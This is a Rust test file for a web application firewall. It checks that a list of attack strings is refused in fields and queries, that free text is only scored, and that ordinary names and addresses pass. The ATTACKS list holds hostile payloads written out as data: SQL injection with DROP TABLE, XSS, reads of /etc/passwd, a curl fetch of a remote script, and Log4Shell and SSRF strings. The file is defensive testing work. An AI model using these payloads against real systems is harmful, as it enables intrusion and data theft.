//! Attacks are refused in fields, honest words pass, and free text is only scored.

use std::path::PathBuf;

use bytes::Bytes;
use http::{HeaderMap, HeaderValue, Method, Version, header};

use super::{Firewall, FirewallError, FirewallMode, Screened};

fn request(method: Method, uri: &str) -> Screened {
    let mut headers = HeaderMap::new();
    headers.insert(header::HOST, HeaderValue::from_static("desk.example"));
    headers.insert(header::USER_AGENT, HeaderValue::from_static("Mozilla/5.0 (X11; Linux x86_64)"));
    headers.insert(header::ACCEPT, HeaderValue::from_static("*/*"));
    Screened {
        method,
        uri: uri.parse().expect("an address"),
        version: Version::HTTP_11,
        headers,
        address: None,
        body: Bytes::new(),
        free_text: &[],
        probe: false,
    }
}

fn json(text: &str) -> Screened {
    let mut screened = request(Method::POST, "/v1/notes");
    screened.headers.insert(header::CONTENT_TYPE, HeaderValue::from_static("application/json"));
    let body = format!("{{\"text\":{}}}", serde_json::Value::from(text));
    screened.headers.insert(header::CONTENT_LENGTH, HeaderValue::from(body.len()));
    screened.body = body.into();
    screened
}

/// Attacks of each kind that the pack is for.
const ATTACKS: &[&str] = &[
    "1' OR '1'='1' -- ",
    "x' and 1=1 union/**/select password from users",
    "1; waitfor delay '0:0:5'",
    "') ; DROP TABLE accounts",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "&#x6a;avascript:alert(1)",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fshadow",
    "php://filter/convert.base64-encode/resource=index",
    "x; cat /etc/hosts",
    "$(curl http://198.51.100.7/x.sh)",
    "() { :;}; echo x",
    "${jndi:ldap://198.51.100.7/a}",
    "${${lower:j}ndi:ldap://198.51.100.7/a}",
    "<?php echo 1;",
    "__proto__",
    "{{7*7}}",
    "rO0ABXNyABdq",
    "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>",
    "gopher://198.51.100.7:70/x",
    "http://169.254.169.254/latest/meta-data/",
    "a\r\nSet-Cookie: b=c",
    "a\0b",
];

/// What honest fields hold: names, addresses, numbers, keys, dates, mail, phone numbers.
const HONEST: &[&str] = &[
    "O'Brien & Sons",
    "D'Angelo, Maria-José",
    "https://www.example.org/kontakt?id=7&lang=de#top",
    "+44 20 7946 0958",
    "sip:100@pbx.example.org;transport=tcp",
    "maria.o'neil+calls@example.org",
    "2026-11-22T09:30:00Z",
    "Europe/Berlin",
    "018f3c1e-7d6a-7c3e-9b1a-3f0c5a9e2b77",
    "rf_live_x7Q2kLm9-Pz_4Tq1bHn8",
    "Mon-Fri 9-17; Sat 10-14",
    "Can I move my appointment to Tuesday, or is 5 > 4 pm too late?",
    "C&A / H&M (Berlin) #3 -- back entrance",
    "https://shop.example.org",
];

#[tokio::test]
async fn attacks_are_refused_in_fields_and_pass_in_free_text() {
    let firewall = Firewall::core(FirewallMode::Block);
    for attack in ATTACKS {
        assert!(firewall.judge(json(attack)).await.refused, "{attack}");
        let free = firewall.judge(Screened { free_text: &["text"], ..json(attack) }).await;
        assert!(!free.refused && !free.free_text_rules.is_empty(), "{attack}: {free:?}");
        let encoded: Vec<String> = attack.bytes().map(|byte| format!("%{byte:02x}")).collect();
        let encoded = encoded.concat();
        let get = firewall.judge(request(Method::GET, &format!("/v1/notes?q={encoded}"))).await;
        assert!(get.refused, "GET {attack}");
    }
    let figures = firewall.figures();
    assert_eq!(
        (figures.refused, figures.free_text, figures.passed),
        (2 * ATTACKS.len() as u64, ATTACKS.len() as u64, 0)
    );
}

#[tokio::test]
async fn honest_fields_pass() {
    let firewall = Firewall::core(FirewallMode::Block);
    for text in HONEST {
        let judgement = firewall.judge(json(text)).await;
        assert!(!judgement.refused, "{text}: {judgement:?}");
    }
    for path in ["/", "/v1/agents", "/trust.json", "/widget.js", "/.well-known/security.txt", "/assets/ringfence.css"] {
        assert!(!firewall.judge(request(Method::GET, path)).await.refused, "{path}");
    }
}

#[tokio::test]
async fn addresses_methods_and_tools_are_judged() {
    let firewall = Firewall::core(FirewallMode::Block);
    for path in
        ["/.git/config", "/.env", "/a/%2e%2e/%2e%2e/etc/passwd", "/index.php", "/wp-login.php", "/x?f=..%5c..%5cwin"]
    {
        assert!(firewall.judge(request(Method::GET, path)).await.refused, "{path}");
    }
    assert!(firewall.judge(request(Method::TRACE, "/")).await.refused);
    let mut tool = request(Method::GET, "/");
    tool.headers.insert(header::USER_AGENT, HeaderValue::from_static("sqlmap/1.8#stable"));
    assert!(firewall.judge(tool).await.refused);
}

#[tokio::test]
async fn a_referer_of_our_own_may_hold_a_search() {
    let firewall = Firewall::core(FirewallMode::Block);
    let with = |referer: &'static str| {
        let mut screened = request(Method::GET, "/contacts");
        screened.headers.insert(header::REFERER, HeaderValue::from_static(referer));
        screened
    };
    assert!(!firewall.judge(with("https://desk.example/contacts?q=<script>alert(1)</script>")).await.refused);
    assert!(firewall.judge(with("https://other.example/?q=<script>alert(1)</script>")).await.refused);
}

#[tokio::test]
async fn the_modes_differ_in_what_they_do() {
    let detect = Firewall::core(FirewallMode::Detect);
    let judgement = detect.judge(json(ATTACKS[0])).await;
    assert!(judgement.attack && !judgement.refused && judgement.rules.contains(&1201), "{judgement:?}");
    assert_eq!(detect.figures().detected, 1);
    let off = Firewall::core(FirewallMode::Off);
    assert_eq!(off.judge(json(ATTACKS[0])).await, super::Judgement::default());
}

#[tokio::test]
async fn what_lies_beyond_the_limits_is_refused_unless_it_is_free_text() {
    let firewall = Firewall::core(FirewallMode::Block);
    let long = "word ".repeat(20_000);
    let strict = firewall.judge(json(&long)).await;
    assert!(strict.too_large && strict.refused);
    assert!(!firewall.judge(Screened { free_text: &["text"], ..json(&long) }).await.refused);
    let many: Vec<String> = (0..300).map(|number| format!("a{number}=1")).collect();
    assert!(firewall.judge(request(Method::GET, &format!("/?{}", many.join("&")))).await.too_large);
}

#[test]
fn a_folder_that_is_no_rule_set_is_refused_in_words() {
    let folder = storage_free_folder("empty");
    let fault = |result: Result<Firewall, FirewallError>| result.map(drop).expect_err("a fault").to_string();
    let missing = fault(Firewall::with_rule_set(&folder, FirewallMode::Block));
    assert!(missing.contains("crs-setup.conf"), "{missing}");
    std::fs::create_dir_all(folder.join("rules")).expect("a folder");
    std::fs::write(folder.join("crs-setup.conf"), "SecRuleEngine On\n").expect("a file");
    std::fs::write(folder.join("rules/R-1.conf"), "SecRule ARGS \"@rx (\" \"id:7\"\n").expect("a file");
    let broken = fault(Firewall::with_rule_set(&folder, FirewallMode::Block));
    assert!(broken.contains("R-1.conf:1: rule 7"), "{broken}");
    std::fs::write(folder.join("rules/R-1.conf"), "SecRule ARGS \"@rx a\" \"id:7,phase:2\"\n").expect("a file");
    assert_eq!(Firewall::with_rule_set(&folder, FirewallMode::Block).expect("rules").rules(), 3);
    std::fs::remove_dir_all(folder).expect("it goes");
}

fn storage_free_folder(name: &str) -> PathBuf {
    std::env::temp_dir().join(format!("firewall-{name}-{}", std::process::id()))
}

#[tokio::test]
async fn the_core_rule_set_serves_this_api() {
    let folder = std::env::var_os("RINGFENCE_SHARED")
        .map_or_else(|| PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/../../../shared")), PathBuf::from);
    if !folder.join("crs/rules").is_dir() {
        println!("not measured: the_core_rule_set_serves_this_api: the rule set is not there");
        return;
    }
    let firewall = Firewall::with_rule_set(&folder.join("crs"), FirewallMode::Block).expect("the rule set");
    // What the rule set refuses at a higher paranoia level only, or leaves to the parser.
    let beyond = |attack: &str| attack.contains("gopher") || attack.contains('\0') || attack.starts_with("rO0AB");
    for attack in ATTACKS.iter().filter(|attack| !beyond(attack)) {
        assert!(firewall.judge(json(attack)).await.refused, "{attack}");
        assert!(!firewall.judge(Screened { free_text: &["text"], ..json(attack) }).await.refused, "{attack}");
    }
    for method in [Method::GET, Method::DELETE] {
        assert!(!firewall.judge(request(method, "/v1/agents/018f3c1e-7d6a-7c3e-9b1a-3f0c5a9e2b77")).await.refused);
    }
    let mut patch = json("Europe/Berlin");
    patch.method = Method::PATCH;
    assert!(!firewall.judge(patch).await.refused);
}

#[tokio::test]
async fn what_a_probe_sends_is_judged_alike_and_counted_apart() {
    let firewall = Firewall::core(FirewallMode::Block);
    assert!(firewall.judge(json(ATTACKS[0])).await.refused);
    assert!(firewall.judge(Screened { probe: true, ..json(ATTACKS[0]) }).await.refused, "the mark opens nothing");
    assert!(!firewall.judge(Screened { probe: true, ..json("Are you open on Monday?") }).await.refused);
    let figures = firewall.figures();
    assert_eq!((figures.refused, figures.probed, figures.passed), (1, 1, 1));
}
